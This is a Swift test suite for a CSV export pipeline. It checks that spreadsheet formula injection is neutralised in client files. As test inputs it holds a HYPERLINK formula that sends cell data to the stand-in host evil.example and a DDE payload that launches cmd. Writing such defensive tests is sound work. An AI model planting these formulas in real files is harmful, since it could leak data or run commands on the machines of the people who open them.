import Foundation
import ScollectETL
import ScollectSandbox
import ScollectTestSupport
import Testing

/// Client-facing CSV files (exports, acknowledgements) never carry a cell a spreadsheet would
/// run as a formula; the rejects report mirrors the input unchanged. Values stored in the
/// sandbox through the API, exported over real HTTP, read back with Python's csv module.
@Suite(.serialized)
struct FormulaInjectionTests {
    static let hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Details\")"

    static func pythonCSV(_ path: String) throws -> [[String: String]] { try pythonCSVRows(path) }

    func exportConfig(folder: String, guardOn: Bool) throws -> ExportPipelineConfig {
        var text = try String(contentsOfFile: repositoryPath("Pipelines/portfolio-export-csv.yml"), encoding: .utf8)
        if !guardOn { text = text.replacingOccurrences(of: "  gzip: false\n", with: "  gzip: false\n  csv_formula_guard: false\n") }
        let path = folder + "/export.yml"
        try text.write(toFile: path, atomically: true, encoding: .utf8)
        var config = try ExportPipelineLoader.load(path: path)
        #expect(config.sink.csvFormulaGuard == guardOn)
        config.sink.path = folder + "/export-\(guardOn).csv"
        config.reportsFolder = folder + "/reports"
        config.target.requestsPerSecond = 2000
        return config
    }

    @Test func aClientReferenceStoredAsAFormulaIsExportedAsText() throws {
        let (server, folder) = try startSampleSandbox()
        defer { server.stop() }
        let api = try TestAPI(baseURL: server.baseURL)
        for (field, value) in [("accountnumber", Self.hyperlink), ("firstname", "@SUM(1+1)"), ("city", "-12.50")] {
            _ = try api.post("/updatedbase", ["filenumber": "R1050", "fieldname": field, "fieldvalue": value], method: "PUT")
        }
        #expect(try api.account("R1050")["accountnumber"] == Self.hyperlink, "the sandbox stores the reference as given")
        let target = RunTarget(baseURL: server.baseURL, credentials: Credentials(apikey: SandboxConfiguration.defaultAPIKey, pin: SandboxConfiguration.defaultPIN),
                               description: "test sandbox")

        let guarded = ExportRunner(config: try exportConfig(folder: folder, guardOn: true), target: target).run()
        #expect(guarded.exitCode == .done, "\(guarded.table)")
        let row = try #require(try Self.pythonCSV(folder + "/export-true.csv").first { $0["Account"] == "R1050" })
        #expect(row["Client Account"] == "'" + Self.hyperlink)
        #expect(row["First Name"] == "'@SUM(1+1)")
        #expect(row["City"] == "-12.50", "a plain number is left alone")
        #expect(row["Balance"] == "809.00")

        // For machine consumers the guard can be turned off: the value as stored.
        let plain = ExportRunner(config: try exportConfig(folder: folder, guardOn: false), target: target).run()
        #expect(plain.exitCode == .done)
        let raw = try #require(try Self.pythonCSV(folder + "/export-false.csv").first { $0["Account"] == "R1050" })
        #expect(raw["Client Account"] == Self.hyperlink)
    }

    @Test func theAcknowledgementGuardsCellsAndTheRejectsReportMirrorsTheInput() throws {
        let (server, folder) = try startSampleSandbox()
        defer { server.stop() }
        var rows = try readCSVRecords(repositoryPath("SampleData/placement.csv"))
        let header = try String(contentsOfFile: repositoryPath("SampleData/placement.csv"), encoding: .isoLatin1)
            .replacingOccurrences(of: "\r\n", with: "\n").prefix { $0 != "\n" }.split(separator: ",").map(String.init)
        rows = Array(rows.prefix(2))
        rows[0]["Client Ref"] = "+cmd|' /C calc'!A0"
        rows[1]["Client Ref"] = Self.hyperlink
        rows[1]["SSN"] = "666-12-3456"                                   // rejected: area 666
        let input = folder + "/placement.csv"
        try (([header] + rows.map { row in header.map { row[$0] ?? "" } }).map { $0.map(CSVFormatting.field).joined(separator: ",") }
            .joined(separator: "\r\n") + "\r\n").write(toFile: input, atomically: true, encoding: .utf8)

        var config = try PipelineLoader.load(path: repositoryPath("Pipelines/nightly-placement.yml"))
        config.reportsFolder = folder + "/reports"
        config.target.requestsPerSecond = 2000
        let target = RunTarget(baseURL: server.baseURL, credentials: Credentials(apikey: SandboxConfiguration.defaultAPIKey, pin: SandboxConfiguration.defaultPIN),
                               description: "test sandbox", journalPath: folder + "/journal.sqlite")
        var options = RunOptions()
        options.inputOverride = input
        let summary = PipelineRunner(config: config, target: target, options: options).run()
        #expect(summary.rejected == 1, "\(summary.table)")

        let acknowledgement = try Self.pythonCSV(try #require(summary.acknowledgementFile))
        #expect(acknowledgement.map { $0["client_reference"] } == ["'+cmd|' /C calc'!A0", "'" + Self.hyperlink])
        let rejects = try readCSVRecords(summary.reportFolder + "/rejects.csv.gz")
        #expect(rejects.first?["Client Ref"] == Self.hyperlink, "the rejects report is fed back as it is")
    }
}
